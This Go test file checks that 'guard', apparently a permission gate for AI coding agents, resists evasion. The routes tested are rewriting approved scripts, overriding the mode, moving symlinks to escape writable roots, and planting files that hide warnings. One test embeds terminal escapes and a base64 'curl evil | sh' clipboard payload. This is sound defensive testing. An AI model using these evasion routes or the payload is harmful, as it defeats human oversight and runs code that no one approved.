package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"guard/internal/gate"
	"guard/policy"
)

// An "always" answer holds the command the person saw, with every word of
// it: "always this exact command" and "[s]hape" for `make -n deploy` (a dry
// run: make prints the recipe) do not run `make deploy` (the recipe) later,
// with no one asked; the remembered command itself still runs unasked.
func TestAlwaysKeepsEveryOption(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("make"); err != nil {
		t.Skip("make is not installed")
	}
	for _, answers := range [][]string{{"a\n", "e\n"}, {"a\n", "p\n"}, {"s\n", "e\n"}} {
		w := newWorld(t)
		marker := filepath.Join(w.root, "DEPLOYED")
		w.write("work/Makefile", "deploy:\n\ttouch "+marker+"\n", 0o644)
		tm := openTerminal(t)
		cmd := w.guardCmd("--mode", "suggest", "--", "make", "-n", "deploy")
		tm.start(cmd)
		tm.waitFor(promptText)
		tm.typeIn(answers[0])
		tm.waitFor(scopeText)
		tm.typeIn(answers[1])
		if r := waitExit(t, cmd); r.code != 0 || fileExists(marker) {
			t.Fatalf("answers %q to make -n deploy: %s (a dry run: nothing made); terminal %q", answers, r, tm.text())
		}
		if !strings.Contains(tm.drain(), "remembered in ") {
			t.Fatalf("answers %q: nothing remembered; terminal %q", answers, tm.text())
		}
		if r := execute(t, w.guardCmd("--mode", "suggest", "--", "make", "-n", "deploy")); r.code != 0 {
			t.Errorf("answers %q, make -n deploy again, no terminal: %s, want it run (remembered)", answers, r)
		}
		if r := execute(t, w.guardCmd("--mode", "suggest", "--", "make", "deploy")); r.code != 126 || fileExists(marker) {
			t.Errorf("answers %q to make -n deploy, then make deploy with no terminal: %s, made %v; want 126 and nothing run",
				answers, r, fileExists(marker))
		}
	}
}

// guard's own lines that name what an agent may have made (a trusted
// project's .guard files, a .guard it planted, a link's target) show the
// characters a terminal acts on as escapes: a file named with "\x1b[2K"
// (erase the line) and "\x1b[8m" (conceal) hid the warning that the
// trusted project had changed, and OSC 52 sets the person's clipboard.
func TestWarningsShowNamesEscaped(t *testing.T) {
	t.Parallel()
	const esc = "\r\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2gK\a\x1b[8m"
	w := newWorld(t)
	w.write("work/.guard/config.toml", "allow_network = false\n", 0o644)
	store := gate.TrustStore(func(k string) string { return gate.Getenv(w.env, k) })
	if _, err := store.Trust(w.work); err != nil {
		t.Fatal(err)
	}
	if r := execute(t, w.guardCmd("--", "true")); r.code != 0 || r.stderr != "" {
		t.Fatalf("trusted project, unchanged: %s, want it run with nothing said", r)
	}
	if err := os.Symlink("/nonexistent", filepath.Join(w.work, ".guard", esc+"x.policy")); err != nil {
		t.Fatal(err)
	}
	nested := filepath.Join(w.work, "sub"+esc)
	w.write(filepath.Join(nested, ".guard", "config.toml"), "allow_network = true\n", 0o644)
	if err := os.Symlink("/tmp/"+esc+"t", filepath.Join(w.work, "l")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		cmd  *exec.Cmd
		want string
	}{
		{"a trusted project changed", w.guardCmd("--", "true"), "changed since it was trusted"},
		{"a .guard never trusted", w.guardCmd("--", "true"), "is not trusted"},
		{"explain --edit of a link", w.guardCmd("explain", "--edit", "l"), "writes:"},
	} {
		if c.name == "a .guard never trusted" {
			c.cmd.Dir = nested
		}
		r := execute(t, c.cmd)
		out := r.stdout + r.stderr
		if !strings.Contains(out, c.want) {
			t.Errorf("%s: %s, want %q", c.name, r, c.want)
		}
		if strings.ContainsAny(out, "\x1b\a\r") {
			t.Errorf("%s: the output holds terminal controls: %q", c.name, out)
		}
	}
}

// A trusted project's mode is a ceiling, as the user's own is and as guard
// trust tells the person ("the loosest used here"): GUARD_MODE=full-auto
// (set by a command a shim runs with no guard above) does not run what the
// project's auto-edit asks about, sandboxed and unasked. The cap names the
// file that set it: a project that changed since it was trusted (suggest)
// is not the user's config.toml.
func TestProjectModeIsACeiling(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.write("work/.guard/config.toml", "mode = \"auto-edit\"\n", 0o644)
	store := gate.TrustStore(func(k string) string { return gate.Getenv(w.env, k) })
	if _, err := store.Trust(w.work); err != nil {
		t.Fatal(err)
	}
	made := filepath.Join(w.work, "made")
	script := `eval "echo hi > made"`
	if r := execute(t, w.guardCmd("--", "bash", "-c", script)); r.code != 126 || fileExists(made) {
		t.Fatalf("trusted project in auto-edit, an unverified script, no terminal: %s, want 126; %s", r, execute(t, w.guardCmd("explain", "--", "bash", "-c", script)))
	}
	w.setenv("GUARD_MODE", "full-auto")
	r := execute(t, w.guardCmd("--", "bash", "-c", script))
	if r.code != 126 || fileExists(made) {
		t.Errorf("GUARD_MODE=full-auto in a project trusted with mode auto-edit: %s, made %v; want 126, nothing made", r, fileExists(made))
	}
	if want := filepath.Join(w.work, ".guard", "config.toml") + ", auto-edit, is the loosest"; !strings.Contains(r.stderr, want) {
		t.Errorf("refusal %q does not name %q", r.stderr, want)
	}
	w.write("work/.guard/config.toml", "mode = \"full-auto\"\n", 0o644)
	r = execute(t, w.guardCmd("explain", "--", "python3", "x.py"))
	if want := "at most suggest (" + filepath.Join(w.work, ".guard") + " (changed since it was trusted))"; !strings.Contains(r.stdout, want) {
		t.Errorf("a trusted project changed: %s, want the cap named %q", r, want)
	}
}

// A remembered answer for a program that is a file inside the writable
// roots holds for that file's content, whatever spelling runs it: after
// "always" for `./run.sh check x.txt` (or for the script by its absolute
// path), the agent rewrites the script (a write inside the project) and
// runs it by its absolute path, by the rule's bare name (guard runs the
// rule's system_path), inside a script, or through an agent's hook: each is
// asked again, none runs the new content. The content approved runs again
// unasked.
func TestRememberedProgramBoundEverySpelling(t *testing.T) {
	t.Parallel()
	for _, program := range []string{"./run.sh", "ABS"} {
		w := newWorld(t)
		script := w.write("work/run.sh", "#!/bin/sh\necho ran \"$@\"\n", 0o755)
		if program == "ABS" {
			program = script
		}
		tm := openTerminal(t)
		cmd := w.guardCmd("--mode", "suggest", "--", program, "check", "x.txt")
		tm.start(cmd)
		tm.waitFor(promptText)
		tm.typeIn("a\n") // remembered for the project, bound: no scope asked
		if r := waitExit(t, cmd); r.code != 0 {
			t.Fatalf("%s answered a: %s; terminal %q", program, r, tm.text())
		}
		spellings := [][]string{
			{"./run.sh", "check", "x.txt"},
			{script, "check", "x.txt"},
			{"run.sh", "check", "x.txt"},
			{"bash", "-c", script + " check x.txt"},
		}
		for _, argv := range spellings {
			if r := execute(t, w.guardCmd(append([]string{"--mode", "suggest", "--"}, argv...)...)); r.code != 0 || !strings.Contains(r.stdout, "ran check x.txt") {
				t.Errorf("%s approved, unchanged, %q with no terminal: %s, want it run", program, argv, r)
			}
		}
		w.write("work/run.sh", "#!/bin/sh\necho CHANGED \"$@\"\n", 0o755)
		for _, argv := range spellings {
			for _, mode := range []string{"suggest", "auto-edit"} {
				r := execute(t, w.guardCmd(append([]string{"--mode", mode, "--"}, argv...)...))
				if r.code != 126 || strings.Contains(r.stdout, "CHANGED") {
					t.Errorf("%s approved, then rewritten, %s %q with no terminal: %s, want 126 and nothing run", program, mode, argv, r)
				}
			}
		}
		for _, agent := range []string{"claude-code", "gemini"} {
			env := hookWith(w.env, "GUARD_MODE=auto-edit")
			ans := hookAsk(t, w.guard, agent, w.work, env, hookRequest(agent, w.work, script+" check x.txt"))
			if d := hookStr(hookField(ans, "hookSpecificOutput", "permissionDecision")) + hookStr(hookField(ans, "decision")); d == "allow" {
				t.Errorf("%s approved, then rewritten, %s hook: %v, want no allow", program, agent, ans)
			}
		}
	}
}

// A writable root below another root cannot be moved by a command guard
// lets write there: a trusted project's root "<project>/build" (inside the
// project, guard trust says) and a $TMPDIR inside the project, each made by a
// link that a relative text made point outside once moved (made inside the
// project, where it resolved inside, then `mv` where none is yet), are no roots: a write
// outside through them is asked about, refused with no one to ask.
func TestRootThroughMovedLink(t *testing.T) {
	t.Parallel()
	outside := hookOutsideDir(t)
	for _, which := range []string{"project root", "TMPDIR"} {
		w := newWorld(t)
		w.write("work/.guard/config.toml", "writable_roots = ["+strconv.Quote(filepath.Join(w.work, "build"))+"]\n", 0o644)
		store := gate.TrustStore(func(k string) string { return gate.Getenv(w.env, k) })
		if _, err := store.Trust(w.work); err != nil {
			t.Fatal(err)
		}
		root := filepath.Join(w.work, "build")
		if which == "TMPDIR" {
			root = filepath.Join(w.work, "tmpdir")
			w.setenv("TMPDIR", root)
		}
		// From root's directory, up to / and down to outside.
		up := strings.Repeat("../", strings.Count(filepath.Dir(root), "/"))
		text := up + strings.TrimPrefix(outside, "/")
		for _, argv := range [][]string{
			{"mkdir", "-p", "a/b/c/d/e/f/g/h/i/j"},
			{"ln", "-s", text, "a/b/c/d/e/f/g/h/i/j/L"},
			{"mv", "a/b/c/d/e/f/g/h/i/j/L", root},
		} {
			if r := execute(t, w.guardCmd(append([]string{"--mode", "auto-edit", "--"}, argv...)...)); r.code != 0 {
				t.Logf("%s: %q: %s", which, argv, r)
			}
		}
		if dest, err := os.Readlink(root); err != nil || policy.Resolve(root, "/") != outside {
			t.Logf("%s: %s -> %q (%v): the link was not made; the moves above were refused", which, root, dest, err)
		}
		victim := filepath.Join(outside, which+"-victim")
		r := execute(t, w.guardCmd("--mode", "auto-edit", "--", "touch", victim))
		if r.code != 126 || fileExists(victim) {
			t.Errorf("%s moved to a link to %s, then touch %s in auto-edit: %s, made %v; want 126 and nothing made", which, outside, victim, r, fileExists(victim))
		}
		os.Remove(victim)
	}
}

// guard trust keeps what trusting loosens most (the mode, a root outside the
// project) in view, right above its question, however many policy files an
// agent put in .guard: with 300 of them, the mode line was some 300 lines up.
func TestTrustLoosenLast(t *testing.T) {
	out, base := trustAnsweredNo(t, func(base string) map[string]string {
		files := map[string]string{"config.toml": "mode = \"full-auto\"\nwritable_roots = [\"" + filepath.Join(base, "elsewhere") + "\"]\n"}
		for i := range 300 {
			files[fmt.Sprintf("lint%03d.policy", i)] = fmt.Sprintf("prefix_rule(pattern=[\"lint%03d\"], decision=\"allow\")\n", i)
		}
		return files
	})
	out = strings.ReplaceAll(out, "\r", "")
	lines := strings.Split(out[:strings.Index(out, "trust them [y/N]")], "\n")
	tail := strings.Join(lines[max(0, len(lines)-20):], "\n")
	for _, want := range []string{"mode full-auto", "writable root " + filepath.Join(base, "elsewhere") + " (outside the project)"} {
		if !strings.Contains(tail, want) {
			t.Errorf("the 20 lines above guard trust's question do not say %q:\n%s", want, tail)
		}
	}
	if n := len(lines); n > 60 {
		t.Errorf("guard trust printed %d lines before its question, want a screenful", n)
	}
}
